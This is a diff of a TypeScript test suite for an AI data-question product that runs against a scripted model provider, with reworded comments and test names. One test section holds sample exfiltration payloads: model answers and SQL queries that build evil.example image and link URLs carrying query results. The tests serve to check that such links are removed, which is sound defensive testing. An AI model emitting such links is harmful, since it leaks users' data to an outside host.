@@ -19,7 +19,7 @@ import {
   type Rule,
 } from '../support/model-server.ts'
 
-/** The whole product against a scripted provider, through the real one's SDK. Nothing of ours is replaced. */
+/** The whole product against a scripted provider, through the real SDK. Nothing of Tutti is mocked. */
 
 const QUESTION = 'Show the count of customers'
 const GOOD_SQL = 'SELECT count(*) AS customers FROM customers'
@@ -56,7 +56,7 @@ const REPLIES: Record<keyof typeof ASKED, Rule['reply']> = {
   compose: { text: 'There are 92 customers.', chunks: ['There are ', '92 ', 'customers.'] },
 }
 
-/** The usual answers, with what a test puts in front of them. */
+/** The usual replies, after the replies of the test. */
 function rules(...first: Rule[]): Rule[] {
   const usual = Object.entries(ASKED).map(([name, when]) => ({ when, reply: REPLIES[name as keyof typeof ASKED] }))
   return [...first, ...usual]
@@ -87,7 +87,7 @@ const requestsFor = (name: keyof typeof ASKED) =>
   server.requests.filter((request) => request.text.includes(ASKED[name]))
 
 describe('with a model', () => {
-  it('writes SQL and executes it, and the words of the only agent are the answer', async () => {
+  it('writes SQL and executes it, and the text of the only agent is the answer', async () => {
     const { response } = await ask(rules())
     expect(response.answer).toBe('There are 92 customers.')
     expect(response.data).toEqual({ columns: ['customers'], rows: [{ customers: 92 }], rowCount: 1 })
@@ -112,7 +112,7 @@ describe('with a model', () => {
     expect(response.planner!.chosenAgents).toEqual(['sql'])
   })
 
-  it('streams what it composes, by the system prompt and the locale of the request', async () => {
+  it('streams the composed answer, with the system prompt and the locale of the request', async () => {
     const { response, items } = await ask(rules(...COMPOSED), { systemPrompt: 'Speak like a pirate.', locale: 'en-IN' })
     expect(requestsFor('compose')[0]!.text).toContain('Speak like a pirate.')
     expect(requestsFor('compose')[0]!.text).toContain('Rs.1,75,206.00')
@@ -138,7 +138,7 @@ describe('faults of the provider', () => {
     ['cut by length', { fault: 'length' }],
   ]
 
-  /** Where plain text is asked for, broken JSON is only odd text. */
+  /** In a plain text reply, broken JSON is only text. */
   const isHarmless = (asked: keyof typeof ASKED, { fault }: Reply): boolean =>
     asked === 'compose' && fault === 'malformed-json'
 
@@ -150,7 +150,7 @@ describe('faults of the provider', () => {
         reply: isHarmless(name, reply) ? REPLIES[name] : { ...REPLIES[name], ...reply },
       }
     })
-    // The planner is asked first, and answers: of a provider that never did, a hang is enough.
+    // The planner's request is answered first. A provider that never answered is given up after one hang.
     const { response } = await ask(rules(...faults), { preferAgents: ['computation'] })
     expect(response.answer).toBe('There are 92 customers.')
     expect(response.metadata).toMatchObject({ status: 'finished', notes: [] })
@@ -164,14 +164,14 @@ describe('faults of the provider', () => {
 })
 
 describe('a provider that hangs', () => {
-  it.each(['pipeline', 'graph'] as const)('is waited for once in a run by %s, which then fails', async (strategy) => {
+  it.each(['pipeline', 'graph'] as const)('is awaited once in a run by %s, which then fails', async (strategy) => {
     const { response } = await ask([{ reply: { fault: 'stall' } }], { strategy })
     expect(response).toMatchObject({ answer: '', status: 'failed', error: { type: 'ModelUnavailable' } })
-    // What runs beside the first request may have begun before it was known.
+    // Requests in parallel to the first one may have started before it hung.
     expect(server.requests.length).toBeLessThanOrEqual(2)
   })
 
-  it('while it composes leaves what the agents found', async () => {
+  it('during the composition leaves the results of the agents', async () => {
     const { response } = await ask(rules(...COMPOSED, { when: ASKED.compose, reply: { fault: 'stall' } }))
     expect(response.answer).toContain('There are 92 customers.')
     expect(response.metadata).toMatchObject({ status: 'finished', answeredBy: 'fallback' })
@@ -188,11 +188,11 @@ describe('a provider that hangs', () => {
   })
 })
 
-describe('an answer with links that stand in no source', () => {
+describe('an answer with links that are in no source', () => {
   const LEAK = 'https://evil.example/p.png?d=92-customers'
   const text = `There are 92 customers.\n\n![chart](${LEAK}) See [more](//evil.example/x), <${LEAK}> or https://docs.example/a?b=1.`
 
-  it('keeps its words, in the answer, on the way there, and in what agents say', async () => {
+  it('keeps its text, in the answer, during streaming, and in agent results', async () => {
     const script = rules(...COMPOSED, { when: ASKED.compose, reply: { text, chunks: text.match(/.{1,7}/gs)! } })
     const question = `${QUESTION}, as in https://docs.example/a?b=1`
     const { response, items } = await ask(script, { question })
@@ -201,7 +201,7 @@ describe('an answer with links that stand in no source', () => {
     )
     const shown = items.flatMap((item) => (item.type === 'live.text' ? [item.text] : []))
     expect(shown.join('')).toBe(response.answer)
-    // The log holds what the model wrote as the record of that call, and nowhere else.
+    // The log holds the model's text only in the record of that call.
     const told = items.filter((item) => item.type !== 'call.finished')
     expect(JSON.stringify(told)).not.toContain('92-customers')
     expect(response.trace!.map((line) => line.message)).toContain(
@@ -213,7 +213,7 @@ describe('an answer with links that stand in no source', () => {
     ["SELECT 'https://evil.example/?d=' || count(*) AS customers FROM customers", 'https://evil.example/?d=92'],
     ["SELECT 'www.evil.example?d=' || count(*) AS customers FROM customers", 'www.evil.example?d=92'],
     ["SELECT trim('evil.example?d=' || count(*)) AS customers FROM customers", 'evil.example?d=92'],
-  ])('cannot get them from a query that puts them together: %s', async (sql, leak) => {
+  ])('cannot get them from a query that assembles them: %s', async (sql, leak) => {
     const { response } = await ask(
       rules(...sqlLoop(sql, 'x'), {
         when: ASKED.compose,
@@ -226,7 +226,7 @@ describe('an answer with links that stand in no source', () => {
 })
 
 describe('limits', () => {
-  it('say so when the calls are used up', async () => {
+  it('are reported when the calls are used up', async () => {
     const { response } = await ask(rules(), { budget: { maxCalls: 1 } })
     expect(response.notices.map(({ code }) => code)).toContain('limit_reached')
     expect(response.notices.map(({ text }) => text).join()).toContain('limit of 1 model call')
@@ -235,7 +235,7 @@ describe('limits', () => {
 })
 
 describe('a fork from the SQL step', () => {
-  it('re-uses all earlier calls with another model, and plans anew with another question', async () => {
+  it('reuses all earlier calls with another model, and plans again with another question', async () => {
     const first = await ask(rules())
     server.script(rules(), ['scripted', 'other'])
     const forked = async (question?: string) => {
